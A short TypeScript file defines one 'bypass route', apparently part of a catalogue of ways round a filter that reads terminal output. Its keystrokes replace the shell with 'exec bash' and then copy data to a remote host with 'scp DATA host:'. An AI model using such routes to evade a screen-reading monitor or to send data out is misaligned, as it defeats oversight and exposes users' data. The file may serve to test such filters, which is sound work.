import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'in a shell that replaces this one',
  source: 'terminal routes past a filter that reads the screen',
  keys: ['exec bash\r', 'scp DATA host:\r'],
  isRaw: true,
};
